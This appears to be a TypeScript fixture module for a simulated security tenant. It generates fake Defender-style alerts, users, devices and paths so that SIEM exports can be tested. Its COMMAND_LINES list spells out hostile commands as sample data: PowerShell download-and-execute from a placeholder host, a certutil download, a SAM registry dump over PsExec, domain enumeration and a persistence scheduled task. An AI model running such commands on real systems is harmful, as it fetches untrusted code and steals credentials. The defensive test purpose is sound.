/**
 * What the simulated tenant's detections are made of: titles, categories and threats as Defender names them,
 * Windows paths, command lines (quotes, `=`, backslashes, newlines: what CEF and LEEF must escape), people, devices.
 */
export type EvidenceKind = "file" | "process" | "ip" | "url";

export interface DetectionTemplate {
  title: string;
  category: string;
  severity: "Informational" | "Low" | "Medium" | "High";
  source: "EDR" | "WindowsDefenderAv" | "CustomerTI" | "AutomatedInvestigation";
  description: string;
  threat?: { name: string; family: string; category: string };
  actor?: string;
  /** The indicators of one alert: one SIEM record each, sharing the AlertId. */
  evidence: EvidenceKind[];
  /** MITRE ATT&CK techniques, as the Alerts API and Graph list them. */
  mitre: string[];
}

export const DETECTIONS: readonly DetectionTemplate[] = [
  {
    title: "Suspicious PowerShell command line",
    category: "Execution",
    severity: "Medium",
    source: "EDR",
    description: "A suspicious PowerShell command line was observed: it downloads and runs code from the internet.",
    evidence: ["process", "url"],
    mitre: ["T1059.001", "T1105"],
  },
  {
    title: "Mimikatz credential theft tool",
    category: "CredentialAccess",
    severity: "High",
    source: "WindowsDefenderAv",
    description: "The credential theft tool Mimikatz was detected on this device.",
    threat: { name: "HackTool:Win32/Mimikatz.D", family: "Mimikatz", category: "Tool" },
    evidence: ["file", "process"],
    mitre: ["T1003.001"],
  },
  {
    title: "Ransomware behavior detected in the file system",
    category: "Ransomware",
    severity: "High",
    source: "EDR",
    description: "Files were encrypted and renamed in quick succession, and a ransom note was written.",
    actor: "STRONTIUM",
    evidence: ["process", "file", "file"],
    mitre: ["T1486", "T1490"],
  },
  {
    title: "'Emotet' malware was detected",
    category: "Malware",
    severity: "Medium",
    source: "WindowsDefenderAv",
    description: "Malware of the Emotet family was detected in a document attachment.",
    threat: { name: "TrojanDownloader:O97M/Emotet.PE!MTB", family: "Emotet", category: "TrojanDownloader" },
    evidence: ["file"],
    mitre: ["T1566.001", "T1204.002"],
  },
  {
    title: "Connection to a known command-and-control server",
    category: "CommandAndControl",
    severity: "High",
    source: "CustomerTI",
    description: "The device connected to an address on a threat intelligence list.",
    evidence: ["ip", "url", "process"],
    mitre: ["T1071.001"],
  },
  {
    title: "Suspicious process injection observed",
    category: "DefenseEvasion",
    severity: "Medium",
    source: "EDR",
    description: "A process injected code into another process, a common way to hide malicious activity.",
    evidence: ["process"],
    mitre: ["T1055"],
  },
  {
    title: "Anomalous account lookups",
    category: "Discovery",
    severity: "Low",
    source: "EDR",
    description: "Many user and group enumeration commands ran in a short time.",
    evidence: ["process"],
    mitre: ["T1087.002", "T1069.002"],
  },
  {
    title: "Suspicious scheduled task",
    category: "Persistence",
    severity: "Medium",
    source: "EDR",
    description: "A scheduled task was created that runs a file from a user-writable folder.",
    evidence: ["process", "file"],
    mitre: ["T1053.005"],
  },
  {
    title: "EICAR_Test_File malware was prevented",
    category: "Malware",
    severity: "Informational",
    source: "WindowsDefenderAv",
    description: "The EICAR antivirus test file was detected and quarantined.",
    threat: { name: "Virus:DOS/EICAR_Test_File", family: "EICAR_Test_File", category: "Virus" },
    evidence: ["file"],
    mitre: [],
  },
  {
    title: "Suspicious 'Trickbot' behavior was detected",
    category: "Malware",
    severity: "High",
    source: "EDR",
    description: "Behavior associated with the Trickbot banking trojan was observed.",
    threat: { name: "Trojan:Win32/Trickbot.SM", family: "Trickbot", category: "Trojan" },
    actor: "WIZARD SPIDER",
    evidence: ["process", "ip"],
    mitre: ["T1055", "T1071.001"],
  },
  {
    title: "Possible lateral movement using PsExec",
    category: "LateralMovement",
    severity: "Medium",
    source: "EDR",
    description: "PsExec was used to run commands on a remote device with administrator credentials.",
    evidence: ["process", "ip"],
    mitre: ["T1021.002", "T1569.002"],
  },
  {
    title: "Suspicious file dropped and launched",
    category: "SuspiciousActivity",
    severity: "Low",
    source: "EDR",
    description: "A file written to a temporary folder was started shortly afterwards.",
    evidence: ["file", "process"],
    mitre: ["T1204.002", "T1105"],
  },
];

export const FIRST_NAMES = [
  "alice",
  "bob",
  "chen",
  "dmitri",
  "eva",
  "farah",
  "gunnar",
  "hiro",
  "ines",
  "jamal",
  "katarzyna",
  "luis",
];
export const LAST_NAMES = [
  "martin",
  "dupont",
  "wei",
  "ivanov",
  "schmidt",
  "haddad",
  "olsen",
  "tanaka",
  "garcia",
  "okafor",
  "nowak",
  "silva",
];
export const DOMAINS = ["CONTOSO", "FABRIKAM"];
export const DEVICE_PREFIXES = ["DESKTOP", "LAPTOP", "WKS", "SRV-FILE", "SRV-SQL"];
export const MACHINE_GROUPS = ["UKMachines", "FranceMachines", "GermanyServers", "Unassigned"];
export const DEVICE_TAGS = ["", "", "VIP", "Finance", "Kiosk"];
export const CLOUD_TAGS = ["", "Production", "Pilot", "HighValue", "Production, HighValue"];

export const FILE_NAMES = [
  "invoice_2024.exe",
  "update.exe",
  "svch0st.exe",
  "payload.dll",
  "setup_x64.msi",
  "report.docm",
  "mimikatz.exe",
  "tmp8F3A.tmp",
];
export const FOLDERS = [
  "C:\\Users\\{user}\\AppData\\Local\\Temp",
  "C:\\Users\\{user}\\Downloads",
  "C:\\ProgramData\\Microsoft\\Crypto",
  "C:\\Windows\\Temp",
  "C:\\Users\\Public\\Documents",
];

export const COMMAND_LINES = [
  "powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('http://{host}/a.ps1')\"",
  "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
  'cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /dclist:"',
  'schtasks.exe /create /tn "OneDrive Standalone Update" /tr "C:\\ProgramData\\upd.exe --silent=1" /sc minute /mo 5 /f',
  "rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\payload.dll,DllRegisterServer key=A1|B2",
  'PsExec.exe \\\\SRV-FILE-02 -s -accepteula cmd /c "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv"',
  "powershell.exe -Command \"$a = 'x=1'\n$b = [Convert]::FromBase64String($a)\nInvoke-Expression $b\"",
  "certutil.exe -urlcache -split -f http://{host}/update.exe C:\\Users\\Public\\update.exe",
];

export const HOSTS = ["cdn-update.example.net", "198.51.100.23", "login-micros0ft.example.com", "files.example.org"];
export const IP_ADDRESSES = ["198.51.100.23", "203.0.113.45", "192.0.2.77", "203.0.113.9"];
